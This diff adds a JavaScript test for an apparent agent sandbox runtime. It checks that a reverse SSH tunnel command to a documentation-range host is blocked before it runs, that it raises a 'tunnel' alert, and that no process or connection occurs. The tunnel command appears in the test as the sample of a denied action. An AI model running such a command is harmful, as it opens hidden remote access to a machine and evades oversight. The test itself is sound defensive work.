@@ -151,3 +151,22 @@ for i in range(30):
   assert.match(r.stdout, /198\.51\.100\.10\s+registry\.test[\s\S]*200/);
   assert.deepEqual(after, []);
 });
+
+test('with detection.on_finding: block, a denied command is stopped before it runs and the agent reads why', async () => {
+  const before = await fx.far.accepted('203.0.113.10', 22);
+  const s = await fx.rt.createSession({ policy: labPolicy('detection:\n  on_finding: block\n'), episode: 'screen' });
+  try {
+    const r = await s.exec({ command: 'ssh -o StrictHostKeyChecking=no -N -R 2222:localhost:22 tunnel@203.0.113.10', step: 1, toolCallId: 'blocked-call' });
+    assert.equal(r.exitCode, 126);
+    assert.match(r.stderr, /corral: blocked before running: .*\[rule [a-z_]+/);
+    const a = r.alerts.find((x) => x.payload.category === 'tunnel');
+    assert.ok(a, JSON.stringify(r.alerts.map((x) => x.payload.rule)));
+    assert.equal(a.payload.action, 'blocked');
+    assert.equal(a.payload.layer, 'command');
+    const ok = await s.exec({ command: 'echo still fine', step: 2 });
+    assert.equal(ok.stdout.trim(), 'still fine');
+  } finally { await s.close(); }
+  assert.equal(await fx.far.accepted('203.0.113.10', 22), before, 'nothing was even attempted');
+  const execs = fx.rt.store.query({ tool_call: 'blocked-call', kind: ['exec'] });
+  assert.deepEqual(execs, [], 'no process ran for the blocked call');
+});
